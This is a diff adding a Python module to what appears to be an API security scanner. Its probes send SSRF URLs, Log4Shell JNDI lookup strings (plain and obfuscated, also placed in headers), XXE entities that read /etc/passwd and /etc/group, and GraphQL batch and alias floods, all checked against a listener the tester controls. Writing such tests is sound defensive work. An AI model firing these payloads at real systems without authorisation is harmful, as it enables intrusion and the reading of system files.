@@ -1,0 +1,239 @@
+"""Weaknesses that show by a call: the system under test is made to call a listener of ours."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import re
+from typing import Any, TYPE_CHECKING
+
+from SecurityLibrary.callback import Listener, same_machine
+from SecurityLibrary.findings import Severity
+from SecurityLibrary.probe import Probe, SlotProbe
+from theodore_qa.errors import NotEvaluatedError
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from SecurityLibrary.exchange import Exchange
+    from SecurityLibrary.findings import Finding
+    from SecurityLibrary.operations import Operation
+    from SecurityLibrary.scan import Scan, Slot
+
+ADDRESSES = re.compile(r"(?i)url|uri|link|hook|callback|site|image|avatar|icon|target|dest|redirect|feed|host|domain|endpoint|proxy|src")
+
+
+@contextlib.contextmanager
+def listening(scan: Scan) -> Iterator[Listener]:
+    """A listener that the system under test can reach for certain; where that is not known, nothing is evaluated."""
+    told = str(scan.api.callback.get("host", ""))
+    if not told and not same_machine(scan.client.url):
+        raise NotEvaluatedError(
+            "it is not known that the system under test can reach a listener here: name by 'callback: {host: ...}' in the API's "
+            "description the address at which this machine is reached from there"
+        )
+    listener = Listener(told or "127.0.0.1")
+    try:
+        if told:
+            _prove(scan, listener)
+        yield listener
+    finally:
+        listener.close()
+
+
+def _prove(scan: Scan, listener: Listener) -> None:
+    """Over the operation that is known to call out, let the listener be called once."""
+    known = str(scan.api.callback.get("control", ""))
+    label, _, name = known.rpartition(" ")
+    if not known:
+        raise NotEvaluatedError("the API's callback names no 'control', an operation and parameter that is known to call out")
+    operation = scan.api.operation(label)
+    parameter = next((one for one in operation.parameters if one.name == name), None)
+    token = listener.token()
+    if parameter is None:
+        raise NotEvaluatedError(f"the callback's control {known} is no operation with a parameter of that name")
+    scan.send(operation, scan.person(operation), {parameter: f"http://{listener.address}/{token}"})
+    if not listener.heard(token, 10):
+        raise NotEvaluatedError(f"the listener at {listener.address} was not reached from the system under test")
+
+
+class CallbackProbe(SlotProbe):
+    """A slot probe that decides by whether a listener is called: all is sent, then listened for, then confirmed."""
+
+    PAYLOADS: tuple[str, ...]
+
+    def run(self, scan: Scan) -> Iterator[Finding]:
+        """Send to all slots, wait once for the calls, and send what called a second time."""
+        with listening(scan) as listener:
+            sent: dict[str, tuple[Slot, str]] = {}
+
+            def send(scan: Scan, slot: Slot) -> Finding | None:
+                for payload in self.payloads(slot):
+                    token = listener.token()
+                    sent[token] = (slot, payload)
+                    self.put(scan, slot, payload.format(address=listener.address, token=token))
+                return None
+
+            yield from scan.over_slots(self, self.applies, send)
+            listener.settle()
+            confirmed: set[str] = set()
+            for slot, payload in [what for token, what in sent.items() if listener.heard(token, 0)]:
+                again = listener.token()
+                if slot.place in confirmed:
+                    continue
+                answer = self.put(scan, slot, payload.format(address=listener.address, token=again))
+                if listener.heard(again):
+                    confirmed.add(slot.place)
+                    yield self.finding(slot.place, "the system called a listener whose address was sent, twice", answer)
+
+    def payloads(self, slot: Slot) -> tuple[str, ...]:  # noqa: ARG002  # all slots alike by default
+        """What is sent to a slot."""
+        return self.PAYLOADS
+
+    def put(self, scan: Scan, slot: Slot, value: str) -> Exchange:
+        """Send one payload."""
+        return scan.put(slot, value)
+
+
+class Ssrf(CallbackProbe):
+    """The system calls an address that anybody may choose, inside its own network too."""
+
+    id = "ssrf"
+    title = "Server-side request forgery"
+    topic = "injection"
+    severity = Severity.HIGH
+    cwe = 918
+    owasp = ("A10:2021", "A01:2025", "API7:2023")
+    tier = 2
+    sends = "the address of an own listener on loopback into everything that looks like an address"
+    decides = "the listener is called, twice, with other tokens"
+    bad = 'httpx.get(body["image_url"])'
+    good = "refuse hosts whose addresses are private, loopback or link-local; connect to the address that was checked"
+    mend = "Call only hosts of a list; resolve once, refuse private addresses, follow no redirects."
+
+    PAYLOADS = ("http://{address}/{token}", "http://{address}/{token}#.example.com", "//{address}/{token}", "{address}/{token}")
+
+    def applies(self, slot: Slot) -> bool:
+        """What looks like an address by its name, its format or its value."""
+        looks = ADDRESSES.search(slot.parameter.name) or slot.parameter.schema.get("format") in ("uri", "url", "hostname")
+        return slot.textual and bool(looks or str(slot.value).startswith("http"))
+
+
+class Log4Shell(CallbackProbe):
+    """What is logged is looked up: a value makes the system load code from elsewhere."""
+
+    id = "log4shell"
+    title = "Look-up in logged values (Log4Shell)"
+    topic = "injection"
+    severity = Severity.CRITICAL
+    cwe = 917
+    owasp = ("A06:2021", "A03:2025")
+    tier = 2
+    sends = "${jndi:ldap://...} with the address of an own listener, plain and disguised, in values and in usual headers"
+    decides = "the listener is called, twice, with other tokens"
+    bad = "log4j-core before 2.17.1"
+    good = "log4j-core from 2.17.1 on"
+    mend = "Bring the logging library up to date; look-ups in messages must be off."
+
+    PAYLOADS = ("${{jndi:ldap://{address}/{token}}}", "${{${{lower:j}}ndi:${{lower:l}}dap://{address}/{token}}}")
+    HEADERS = ("User-Agent", "Referer", "X-Api-Version", "X-Forwarded-For")
+
+    def put(self, scan: Scan, slot: Slot, value: str) -> Exchange:
+        """In the value and in headers that are often logged, at once."""
+        return scan.put(slot, value, headers=dict.fromkeys(self.HEADERS, value))
+
+
+class Xxe(Probe):
+    """An XML document makes the system read files or call addresses."""
+
+    id = "xxe"
+    title = "XML external entities"
+    topic = "injection"
+    severity = Severity.HIGH
+    cwe = 611
+    owasp = ("A05:2021", "A02:2025")
+    tier = 2
+    sends = "documents with an entity that stands for a file, and with one that stands for the address of an own listener"
+    decides = "the texts of two files come back, or the listener is called, twice"
+    bad = "etree.fromstring(body, etree.XMLParser(resolve_entities=True))"
+    good = "defusedxml.ElementTree.fromstring(body)"
+    mend = "Switch document types and external entities off in the XML parser."
+
+    def run(self, scan: Scan) -> Iterator[Finding]:
+        """Try every operation that takes XML."""
+        takers = [one for one in scan.api.operations if one.media and one.media.endswith("xml")]
+        if not takers:
+            raise NotEvaluatedError("no operation takes XML")
+        for operation in takers:
+            person = scan.person(operation)
+            control = scan.control(operation, person)
+            scan.tried(self, str(operation))
+            read = []
+            for name, sign in (("/etc/passwd", r"root:[^:\n]*:0:0:"), ("/etc/group", r"root:[^:\n]*:0:")):
+                answer = scan.send(operation, person, body=_document(operation.body, f"file://{name}"))
+                if re.search(sign, answer.text) and not re.search(sign, control[0].text):
+                    read.append(answer)
+            if len(read) == 2:  # noqa: PLR2004  # both files
+                yield self.finding(str(operation), "an entity stands for a file, whose text comes back", *read)
+                continue
+            with contextlib.suppress(NotEvaluatedError), listening(scan) as listener:
+                tokens = [listener.token(), listener.token()]
+                answers = [
+                    scan.send(operation, person, body=_document(operation.body, f"http://{listener.address}/{token}"))
+                    for token in tokens
+                ]
+                if all(listener.heard(token, 1) for token in tokens):
+                    yield self.finding(str(operation), "an entity stands for an address, which is called", *answers)
+
+
+def _document(good: object, source: str) -> bytes:
+    """The operation's good document with an entity in place of its first text."""
+    text = re.sub(r"<\?xml.*?\?>", "", str(good or "<a>b</a>"))
+    root = re.search(r"<(\w+)", text)
+    with_entity = re.sub(r">([^<>]+)<", ">&qa;<", text, count=1)
+    return f'<?xml version="1.0"?><!DOCTYPE {root[1] if root else "a"} [<!ENTITY qa SYSTEM "{source}">]>{with_entity}'.encode()
+
+
+class Graphql(Probe):
+    """A GraphQL endpoint tells its schema, or takes any number of queries at once."""
+
+    id = "graphql"
+    title = "GraphQL introspection and batching"
+    topic = "api"
+    severity = Severity.LOW
+    cwe = 770
+    owasp = ("A05:2021", "A02:2025", "API4:2023")
+    tier = 2
+    sends = "an introspection query; a list of 20 queries; a query with 200 aliases"
+    decides = "the schema comes back, twice; all 20 and all 200 are answered"
+    bad = "GraphQL(schema)"
+    good = "GraphQL(schema, introspection=False, validation_rules=[max_aliases(15)])"
+    mend = "Switch introspection off outside development; limit batches, aliases and depth."
+
+    BATCH, ALIASES = 20, 200
+
+    def run(self, scan: Scan) -> Iterator[Finding]:
+        """Try operations whose path says GraphQL."""
+        found = [one for one in scan.api.operations if one.method == "POST" and "graphql" in one.path.lower()]
+        if not found:
+            raise NotEvaluatedError("no operation speaks GraphQL")
+        for operation in found:
+            control = self._ask(scan, operation, {"query": "{__typename}"})
+            if not control.ok or "data" not in (control.body or {}):
+                scan.left_out(self, str(operation), "the control query {__typename} was not answered")
+                continue
+            scan.tried(self, str(operation))
+            told = [self._ask(scan, operation, {"query": f"{{__schema{{{what}{{name}}}}}}"}) for what in ("types", "queryType")]
+            if all((one.body or {}).get("data", {}).get("__schema") for one in told):
+                yield self.finding(str(operation), "the schema is told to whoever asks", *told)
+            batch = self._ask(scan, operation, [{"query": "{__typename}"}] * self.BATCH)
+            if isinstance(batch.body, list) and len(batch.body) == self.BATCH:
+                yield self.finding(str(operation), f"{self.BATCH} queries in one request are all answered", batch)
+            many = "{" + " ".join(f"a{number}:__typename" for number in range(self.ALIASES)) + "}"
+            aliases = self._ask(scan, operation, {"query": many})
+            if isinstance(aliases.body, dict) and len(aliases.body.get("data") or {}) == self.ALIASES:
+                yield self.finding(str(operation), f"{self.ALIASES} aliases in one query are all answered", aliases)
+
+    @staticmethod
+    def _ask(scan: Scan, operation: Operation, query: Any) -> Exchange:
+        return scan.send(operation, scan.person(operation), body=json.dumps(query).encode())
